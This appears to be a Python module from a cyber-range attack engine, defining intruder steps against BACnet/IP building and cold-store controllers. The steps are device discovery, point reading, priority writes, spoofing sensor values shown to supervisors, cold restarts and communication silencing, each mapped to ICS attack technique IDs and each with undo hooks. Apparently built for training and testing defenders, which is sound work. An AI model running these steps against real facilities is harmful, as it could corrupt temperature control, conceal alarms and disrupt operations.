"""BACnet devices of cold stores and buildings: found by Who-Is, commanded with a priority, restarted, silenced.

BACnet/IP is datagrams: these steps work from a machine of the intruder's own in reach of the devices, not through an
SSH session.
"""

from __future__ import annotations

import contextlib
from collections.abc import AsyncIterator, Mapping
from typing import Any

from cyber_range.engine.attack.intruder import Intruder
from cyber_range.engine.attack.registry import step
from cyber_range.engine.attack.speakers import BacnetSpeaker
from cyber_range.engine.attack.speaking import speaking
from cyber_range.engine.attack.ways import Blocked, Evidence

OWN_NUMBER = 4_100_000  # the intruder's device number; a real one picks some, and a sensor sees it
PRIORITY = 8  # manual operator


@contextlib.asynccontextmanager
async def dialogue(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> AsyncIterator[BacnetSpeaker]:
    target = str(args.get("host", args.get("bbmd", "the devices")))
    if "host" in args:
        evidence.facts["target"] = intruder.fence.check(target)
    number = int(args.get("instance", OWN_NUMBER))
    bbmd = intruder.fence.check(str(args["bbmd"])) if "bbmd" in args else None
    async with speaking(target, lambda: intruder.toolbox.bacnet(number, bbmd)) as bacnet:
        yield bacnet


@step("bacnet_whois", "T0846", "T0888", gains=("hosts",))
async def bacnet_whois(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Asks every BACnet device who it is (and each of `hosts` by unicast), then for maker, model and revision. From
    elsewhere the question is carried by a `bbmd` that registers strangers."""
    hosts = [intruder.fence.check(str(host)) for host in args.get("hosts", ())]
    async with dialogue(intruder, args, evidence) as bacnet:
        found = await bacnet.who_is(hosts, min(10.0, float(args.get("seconds", 1.5))))
        devices = {}
        for number, host in found.items():
            intruder.found.setdefault(intruder.fence.check(host), []).append(47808)
            devices[str(number)] = {"address": host}
            with contextlib.suppress(PermissionError, TimeoutError):  # a supervisor need not say more than its number
                devices[str(number)] |= await bacnet.identity(host)
    evidence.facts["devices"] = devices
    if not devices:
        raise Blocked("no BACnet device answers")


@step("bacnet_points", "T0861", "T0802", gains=("points",))
async def bacnet_points(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Reads a device's object list and each object's name and value. Gains the points."""
    points: dict[str, Any] = {}
    async with dialogue(intruder, args, evidence) as bacnet:
        host = str(args["host"])
        for thing in (await bacnet.objects(host))[: int(args.get("most", 60))]:
            if thing.partition(",")[0] in ("device", "network-port"):
                continue
            name = await bacnet.read(host, thing, "object-name")
            points[thing] = {"name": name, "value": await bacnet.read(host, thing)}
    evidence.facts["points"] = points


@step("bacnet_write", "T0836", "T0855", "T0831", "T0838", "T0835")
async def bacnet_write(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Commands an object (`object`: "analog-value,3") with a `priority` (8). `undo` relinquishes it."""
    host, thing, value = str(args["host"]), str(args["object"]), float(args["value"])
    priority = int(args.get("priority", PRIORITY))
    async with dialogue(intruder, args, evidence) as bacnet:
        before = await bacnet.read(host, thing)
        held = (await bacnet.priorities(host, thing)).get(priority)
        await bacnet.write(host, thing, value, priority=priority)
        after = await bacnet.read(host, thing)
    evidence.facts |= {"object": thing, "priority": priority, "value": value, "before": before, "after": after}
    where = dict(args)

    async def give_up(told: Evidence) -> dict[str, Any]:
        async with dialogue(intruder, where, told) as bacnet:
            await bacnet.write(host, thing, held, priority=priority)
        return {"target": host, "object": thing, "relinquished": held is None, "value": held}

    intruder.undo_with((host, "bacnet", thing, priority), give_up)


@step("bacnet_spoof", "T0856", "T0832")
async def bacnet_spoof(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Takes a measurement out of service and writes what shall be shown instead; supervisors poll the lie."""
    host, thing, value = str(args["host"]), str(args["object"]), float(args["value"])
    async with dialogue(intruder, args, evidence) as bacnet:
        before = await bacnet.read(host, thing)
        await bacnet.write(host, thing, True, priority=0, what="out-of-service")
        await bacnet.write(host, thing, value, priority=0)
        after = await bacnet.read(host, thing)
    evidence.facts |= {"object": thing, "value": value, "before": before, "after": after}
    where = dict(args)

    async def in_service(told: Evidence) -> dict[str, Any]:
        async with dialogue(intruder, where, told) as bacnet:
            await bacnet.write(host, thing, False, priority=0, what="out-of-service")
        return {"target": host, "object": thing, "in_service": True}

    intruder.undo_with((host, "bacnet", thing, "service"), in_service)


@step("bacnet_restart", "T0816")
async def bacnet_restart(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Reinitialises a device (`password`, `cold`: true)."""
    async with dialogue(intruder, args, evidence) as bacnet:
        await bacnet.reinitialise(str(args["host"]), str(args.get("password", "")), cold=bool(args.get("cold", True)))


@step("bacnet_silence", "T0804", "T0803", "T0815", "T0813")
async def bacnet_silence(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Switches a device's communication off for some `minutes` (5): it neither reports nor obeys. `undo` wakes it."""
    host, password = str(args["host"]), str(args.get("password", ""))
    minutes = max(1, min(60, int(args.get("minutes", 5))))
    async with dialogue(intruder, args, evidence) as bacnet:
        await bacnet.communicate(host, "disable", minutes, password)
    evidence.facts["minutes"] = minutes
    where = dict(args)

    async def wake(told: Evidence) -> dict[str, Any]:
        async with dialogue(intruder, where, told) as bacnet:
            await bacnet.communicate(host, "enable", 0, password)
        return {"target": host, "communication": "enable"}

    intruder.undo_with((host, "bacnet", "communication"), wake)
